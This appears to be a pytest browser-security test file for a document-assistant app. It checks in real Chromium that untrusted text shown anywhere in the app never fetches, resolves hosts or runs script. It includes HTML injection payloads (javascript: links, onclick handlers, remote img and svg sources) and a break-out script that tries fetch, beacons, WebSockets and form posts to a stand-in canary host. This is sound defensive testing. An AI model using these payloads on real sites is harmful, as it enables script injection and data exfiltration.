"""Untrusted text in real Chromium: wherever it is shown, nothing is fetched, nothing is looked up, nothing runs.

A canary listens on loopback; every text tries to reach it under a host of its own. The browser's own log names every
host that it looked up, and each tab every request that it began, blocked ones too.
"""

import json
import re
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from assistant.access import LOCAL_USER
from assistant.bootstrap import Citewell, open_citewell
from assistant.settings import Settings
from retrieval.library import Failure, FileFacts
from retrieval.values import ParsedDocument, Section
from tests.assistant.scripted_endpoint import DONE, HEAD, Request, Script, ScriptedEndpoint, chunk, usage
from tests.browser.serving import CHROMIUM, FLAGS, PATIENCE_MS, App, served
from tests.browser.vectors import Vector, vectors

QUESTION = "When do the lamps at the berth burn?"
FACT = "The lamps at the berth burn from dusk to dawn"
LEAST_TEXTS = 60
LOOKING_S = 12.0
UNFINDABLE = "https://~notfound"

# The canary, and what is seen of the browser.


class _Canary(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        """Note who was reached; `/control` is a page that fetches."""
        server = self.server
        assert isinstance(server, CanaryServer)
        server.hits.append(f"{self.headers['Host']}{self.path}")
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        if self.path == "/control":
            self.wfile.write(f"<img src=http://control.canary.localhost:{server.server_port}/image>".encode())

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class CanaryServer(ThreadingHTTPServer):
    """Counts whoever reaches it."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Canary)
        self.hits: list[str] = []
        threading.Thread(target=self.serve_forever, daemon=True).start()


@dataclass(slots=True)
class Observed:
    """A browser that is watched from its start to its end."""

    browser: Browser
    log: Path
    asked: list[str] = field(default_factory=list)
    """Addresses that its tabs began to ask for, data and blobs left out."""
    dialogs: list[str] = field(default_factory=list)

    def tab(self) -> BrowserContext:
        """A tab of a fresh profile."""
        context = self.browser.new_context(viewport={"width": 1280, "height": 860})
        context.set_default_timeout(PATIENCE_MS)
        context.on("request", lambda request: self._note(request.url))
        context.on("page", lambda page: self._watch(page))
        return context

    def looked_up(self) -> set[str]:
        """The hosts it looked up, once it was closed."""
        self.browser.close()
        log = json.loads(self.log.read_text("utf-8"))
        kinds = {number: name for name, number in log["constants"]["logEventTypes"].items()}
        events = (event for event in log["events"] if "HOST_RESOLVER" in kinds[event["type"]])
        return {event["params"]["host"] for event in events if "host" in event.get("params", {})}

    def _watch(self, page: Page) -> None:
        page.on("websocket", lambda socket: self._note(socket.url.replace("ws://", "http://", 1)))
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def _note(self, url: str) -> None:
        if not url.startswith(("blob:", "data:")):
            self.asked.append(url)


@pytest.fixture(scope="module")
def canary() -> Iterator[CanaryServer]:
    server = CanaryServer()
    yield server
    server.shutdown()
    server.server_close()


def observe(browser: Browser, log: Path) -> Observed:
    """Only this machine can be found by name, and what is looked up is written down."""
    rules = "MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE *.canary.localhost"
    flags = [*FLAGS, f"--host-resolver-rules={rules}", f"--log-net-log={log}"]
    return Observed(browser.browser_type.launch(executable_path=CHROMIUM, args=flags), log)


# The home: every text in documents, names, titles and descriptions.


def lamps(count: int) -> str:
    """Sentences that the document bears out, so that the answer stands."""
    return " ".join(f"{FACT}." for _ in range(count))


def fill(citewell: Citewell, texts: tuple[Vector, ...], folder: Path) -> None:
    """Put every text into every place that the home has for it."""
    folder.mkdir()
    blocks = "\n\n".join(text.block for text in texts)
    (folder / "berths.md").write_text(f"# Berths {texts[0].line}\n\n{lamps(3)}\n\n{blocks}\n", "utf-8")
    (folder / "berths.html").write_text(f"<title>Berths</title><h1>Berths</h1>{blocks}", "utf-8")
    report = citewell.intake.read_paths([folder], collection="Harbour")
    assert report.added == 2, report.failed
    harbour = citewell.library.collection_named("Harbour")
    citewell.library.change_collection(harbour.id, description=texts[1].line, contact=texts[2].line)
    named = citewell.library.create_collection(texts[3].line[:80])
    citewell.intake.add_parsed(named.id, ((name_of(text), small_document(text)) for text in texts[:10]))
    facts = FileFacts("0" * 64, "PDF", 10)
    failures = [Failure(name_of(text), facts, f"{text.line} cannot be read.") for text in texts]
    citewell.library.record_failures(citewell.library.create_collection("Failed").id, failures)
    for text in texts:
        conversation_id = citewell.conversations.create(LOCAL_USER)
        citewell.conversations.begin(conversation_id, LOCAL_USER, f"{text.block} in question")
        citewell.conversations.mark_interrupted()
        citewell.threads.rename(conversation_id, LOCAL_USER, text.line)


def name_of(text: Vector) -> str:
    """A path with the text in it."""
    return f"{text.line}.md"


def small_document(text: Vector) -> ParsedDocument:
    return ParsedDocument(text.line, text.block, (Section((), 0, len(text.block)),), format="Markdown")


def reply_to(texts: tuple[Vector, ...], looked: threading.Event) -> Script:
    """All texts and enough that is borne out, in pieces that cut each of them; it ends once somebody has looked."""
    supported = " ".join(f"{FACT} [1]." for _ in range(2 * len(texts)))
    answer = "\n\n".join((supported, *(text.block for text in texts)))
    yield HEAD
    yield from (chunk(answer[at : at + 7]) for at in range(0, len(answer), 7))
    looked.wait(LOOKING_S)
    yield from (chunk(finish="stop"), usage(1200, 900), DONE)


@pytest.fixture(scope="module")
def texts(canary: CanaryServer) -> tuple[Vector, ...]:
    return vectors(canary.server_port)


@dataclass(frozen=True, slots=True)
class Harbour:
    """The app over that home, with a model that says all of it."""

    app: App
    looked: threading.Event
    """Set it when the answer was looked at while it was written."""


@pytest.fixture(scope="module")
def harbour(texts: tuple[Vector, ...], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Harbour]:
    folder = tmp_path_factory.mktemp("harbour")
    citewell = open_citewell(Settings.read(home=folder / "home", sample=False))
    try:
        fill(citewell, texts, folder / "files")
    finally:
        citewell.close()
    looked = threading.Event()

    def reply(request: Request) -> Script:
        prompt = "\n".join(message["content"] for message in request.body["messages"])
        if "may want to ask next" in prompt:
            return (HEAD, chunk("\n".join(f"{text.line}?" for text in texts[:3])), chunk(finish="stop"), DONE)
        return reply_to(texts, looked)

    with ScriptedEndpoint(reply) as endpoint, served(folder / "home", OPENAI_BASE_URL=endpoint.url) as app:
        yield Harbour(app, looked)


# What stands on a page.

_SEEN = """() => {
  const seen = { words: document.body.innerText, elements: [], ran: "ran" in window };
  const where = (value) => { try { return new URL(value, document.baseURI).href; } catch { return "none:"; } };
  const look = (root) => {
    for (const element of root.querySelectorAll("*")) {
      const attributes = [...element.attributes].map((a) => [a.name.toLowerCase(), a.value, where(a.value)]);
      seen.elements.push({ tag: element.localName, words: element.textContent, attributes });
      if (!element.shadowRoot) continue;
      seen.words += element.shadowRoot.textContent;
      look(element.shadowRoot);
    }
  };
  look(document);
  return seen;
}"""
_BREAK_OUT = """async (home) => {
  const put = (html) => document.body.insertAdjacentHTML("beforeend", html);
  put(`<img src=${home}img><img srcset="${home}srcset 1x"><video src=${home}video poster=${home}poster></video>`);
  put(`<iframe src=${home}iframe></iframe><object data=${home}object></object><embed src=${home}embed>`);
  put(`<link rel=stylesheet href=${home}css><link rel=prefetch href=${home}prefetch><link rel=preload as=image href=${home}p>`);
  put(`<p style="background:url(${home}style)">a</p><style>@import url(${home}import); @font-face { font-family: x; src: url(${home}font) } p { font-family: x }</style>`);
  put(`<svg><image href=${home}svg /><use href="${home}use#a"/></svg><audio src=${home}audio autoplay></audio>`);
  put(`<form id=out method=post action=${home}form target=_self></form>`);
  const script = document.createElement("script");
  script.src = `${home}script`;
  document.body.append(script);
  const calls = [
    () => fetch(`${home}fetch`, { mode: "no-cors" }),
    () => navigator.sendBeacon(`${home}beacon`, "x"),
    () => new EventSource(`${home}events`),
    () => new WebSocket(home.replace("http", "ws")),
    () => new Worker(`${home}worker`),
    () => import(`${home}module`),
  ];
  for (const call of calls) try { await call(); } catch { /* refused, as it ought to be */ }
  setTimeout(() => document.getElementById("out").submit(), 200);
}"""
_FETCHES = frozenset(["src", "poster", "data", "background", "action", "formaction", "xlink:href", "manifest"])
_NEVER = frozenset(["srcset", "srcdoc", "ping", "http-equiv"])


def problems(seen: dict[str, Any], app: App) -> list[str]:
    """What on a page could fetch or run anything of others, and links that do not say where they lead."""
    found = ["something ran"] if seen["ran"] else []
    for element in seen["elements"]:
        for name, value, address in element["attributes"]:
            if not _is_harmless(element, name, address if name in _FETCHES | {"href"} else value, app):
                found.append(f"<{element['tag']} {name}={value}> {element['words'][:80]}")
    return found


def _is_harmless(element: dict[str, Any], name: str, value: str, app: App) -> bool:
    if name in _NEVER or name.startswith("on"):
        return False
    if name == "style":
        return "canary" not in value
    if name == "href" and element["tag"] == "a":
        outside = re.match(r"https?://(\w+\.canary\.localhost:\d+)", value)
        return outside[1] in element["words"] if outside else value.startswith((f"{app.url}/", "mailto:"))
    return name not in _FETCHES | {"href"} or value.startswith((f"{app.url}/", "blob:", "data:image/"))


ILL = (
    "<img src=http://a.canary.localhost/x>",
    "<a href='javascript:ran=1'>a</a>",
    "<a href='JavaScript:ran=1'>a</a>",
    "<a href='data:text/html,x'>a</a>",
    "<a href='http://a.canary.localhost:1/'>a</a>",
    "<a href='/x' ping='/y'>a</a>",
    "<p style='background:url(//a.canary.localhost)'>a</p>",
    "<p onclick=ran=1>a</p>",
    "<iframe srcdoc=a></iframe>",
    "<img srcset='/a 1x'>",
    "<form action='//a.canary.localhost'></form>",
    "<svg><use href='http://a.canary.localhost/#a'/></svg>",
    "<svg><image xlink:href='http://a.canary.localhost/a'/></svg>",
    "<video poster='http://a.canary.localhost/'></video>",
    "<base href='http://a.canary.localhost/'>",
    "<meta http-equiv=refresh content=3600>",
    "<object data='//a.canary.localhost'></object>",
)
WELL = (
    "<a href='http://a.canary.localhost:1/'>a (a.canary.localhost:1)</a><a href='/x'>x</a><p title='<img src=x>'>x</p>"
)


@dataclass(slots=True)
class Walk:
    """One reader's way through all places; each returns the numbers of the texts that were found there."""

    page: Page
    harbour: Harbour
    texts: tuple[Vector, ...]
    link: str = ""

    def streamed_answer(self) -> set[int]:
        """What is seen while the model writes, then when it has written."""
        self.page.goto(self.harbour.app.url)
        box = self.page.get_by_test_id("stChatInput").locator("textarea")
        box.fill(QUESTION)
        box.press("Enter")
        self.page.locator(".st-key-live_answer").get_by_text(self.texts[-1].word).wait_for()
        found = self.look()
        self.harbour.looked.set()
        self.page.locator(".answer .foot").wait_for()
        self.look()
        return found

    def history(self) -> set[int]:
        """The conversation as it was stored; a link to it is made."""
        self.page.reload()
        self.page.locator(".answer .foot").wait_for()
        found = self.look()
        self.page.get_by_role("button", name="How this was found").click()
        self.page.locator(".account").wait_for()
        self.look()
        self.page.keyboard.press("Escape")
        self.page.get_by_role("dialog").wait_for(state="detached")
        self.page.get_by_role("button", name="Share", exact=True).click()
        self.page.get_by_role("button", name="Make a link").click()
        self.link = self.page.locator("[data-testid=stCode] code").first.inner_text().strip()
        self.page.keyboard.press("Escape")
        return found

    def sources(self) -> set[int]:
        """A citation's card and source, and whole documents, of Markdown and of HTML, also as they were cut."""
        self.page.locator(".answer .chip").first.hover()
        self.page.get_by_role("tooltip").wait_for()
        self.page.locator(".answer .chip").first.click()
        self.page.locator(".source").wait_for()
        found = self.look()
        for document_id in (1, 2, 3):
            self.page.goto(f"{self.harbour.app.url}/document?id={document_id}")
            self.page.locator(".document").wait_for()
            found |= self.look()
            self.page.get_by_text("Show how it was cut").click()
            self.page.locator(".piece").first.wait_for()
            self.look()
        return found

    def titles(self) -> set[int]:
        """The list of conversations to its end, a search in it, and a conversation's own words."""
        self.page.goto(self.harbour.app.url)
        threads = self.page.locator(".threads .thread")
        threads.first.wait_for()
        while (more := self.page.get_by_role("button", name="Show more")).count():
            before = threads.count()
            more.click()
            expect(threads).not_to_have_count(before)
        found = self.look()
        self.page.locator(".st-key-thread_search input").fill("canary.localhost")
        self.page.locator(".threads .note").wait_for()
        self.look()
        threads.first.locator("a").click()
        self.page.locator(".question").first.wait_for()
        self.look()
        return found

    def file_names(self) -> set[int]:
        """Files that could not be read in, ten at a time, the table above them, and files that are added."""
        self.page.goto(f"{self.harbour.app.url}/documents")
        self.page.get_by_test_id("stRadioOption").filter(has_text="Failed").first.click()
        self.page.get_by_role("heading", name="Failed", exact=True).wait_for()
        find, found = self.page.get_by_label("Find a document"), set()
        expect(find).to_have_count(1)  # that of what was shown before is gone
        for ten in range(len(self.texts) // 10 + 1):
            shown = [text for text in self.texts if text.number // 10 == ten]
            find.fill(f"v{ten:02}")
            find.press("Enter")
            self.page.locator(".st-key-reasons").get_by_text(shown[-1].word).first.wait_for()
            found |= self.look()
        self.page.get_by_test_id("stRadioOption").filter(has_text="Harbour").first.click()
        files = [{"name": name_of(text), "mimeType": "text/markdown", "buffer": b"\0"} for text in self.texts[:30]]
        self.page.locator("input[type=file]").set_input_files(files)  # type: ignore[arg-type]
        self.page.get_by_role("button", name=f"Read {len(files)} files in").click()
        self.page.locator(".st-key-outcome").wait_for()
        self.look()
        return found

    def other_pages(self) -> set[int]:
        """A text that is checked, and the conversation as others see it."""
        self.page.goto(f"{self.harbour.app.url}/check")
        box = self.page.get_by_role("textbox", name="Text to check")
        box.fill("\n\n".join((f"{FACT}.", *(text.line for text in self.texts))))
        self.page.get_by_role("button", name="Check this text").click()
        self.page.locator(".answer .verdict").first.wait_for()
        found = self.look()
        self.page.goto(self.link)
        self.page.locator(".answer .foot").wait_for()
        return found & self.look()

    def look(self) -> set[int]:
        """The texts that arrived on this page; fails where any does more than stand there."""
        seen = self.page.evaluate(_SEEN)
        assert problems(seen, self.harbour.app) == []
        return {text.number for text in self.texts if text.word in seen["words"]}


# What holds.


@pytest.mark.threat("T14")
@pytest.mark.threat("T15")
def test_nothing_that_is_shown_anywhere_fetches_looks_up_or_runs(
    browser: Browser,
    canary: CanaryServer,
    harbour: Harbour,
    texts: tuple[Vector, ...],
    tmp_path: Path,
    record_property: Callable[[str, object], None],
) -> None:
    """Every text, in six places: all of them arrive as words, and the browser asks nobody but its own server."""
    observed = observe(browser, tmp_path / "net.json")
    walk = Walk(observed.tab().new_page(), harbour, texts)
    everywhere = {text.number for text in texts}
    places = (walk.streamed_answer, walk.history, walk.sources, walk.titles, walk.file_names, walk.other_pages)
    covered = 0
    for place in places:
        assert everywhere - place() == set(), place.__name__
        covered += len(everywhere)
    looked_up = observed.looked_up()
    own = harbour.app.url
    assert [url for url in observed.asked if not url.startswith(f"{own}/")] == []
    assert [hit for hit in canary.hits if hit.startswith("v")] == []
    # What the browser itself would like to ask its maker cannot be found.
    assert looked_up <= {own, UNFINDABLE}
    assert observed.dialogs == []
    assert len(places) == 6
    assert len(texts) >= LEAST_TEXTS
    record_property("threat", ["T14", covered])
    record_property("threat", ["T15", covered])


def test_the_canary_and_the_log_notice_a_page_that_fetches(
    browser: Browser, canary: CanaryServer, tmp_path: Path
) -> None:
    observed = observe(browser, tmp_path / "net.json")
    observed.tab().new_page().goto(f"http://127.0.0.1:{canary.server_port}/control")
    host = f"control.canary.localhost:{canary.server_port}"
    assert f"{host}/image" in canary.hits
    assert f"http://{host}/image" in observed.asked
    assert f"http://{host}" in observed.looked_up()


def test_what_looks_over_a_page_notices_what_it_is_for(browser: Browser, harbour: Harbour) -> None:
    """The check of the walk, on elements that it must never meet."""
    page = browser.new_page()
    page.goto(f"{harbour.app.url}/assets/citewell.css")
    for html in ILL:
        page.evaluate("html => { document.body.innerHTML = html; }", html)
        assert problems(page.evaluate(_SEEN), harbour.app) != [], html
    page.evaluate("html => { document.body.innerHTML = html; }", WELL)
    assert problems(page.evaluate(_SEEN), harbour.app) == []
    page.close()


def test_the_policy_holds_alone_where_a_renderer_would_not(
    browser: Browser, canary: CanaryServer, harbour: Harbour
) -> None:
    """The second lock: elements and calls put into the page by its own scripts reach nobody."""
    page = browser.new_page()
    page.goto(harbour.app.url)
    page.get_by_test_id("stChatInput").wait_for()
    page.evaluate(_BREAK_OUT, f"http://policy.canary.localhost:{canary.server_port}/")
    page.wait_for_timeout(1_000)
    page.close()
    assert [hit for hit in canary.hits if hit.startswith("policy")] == []
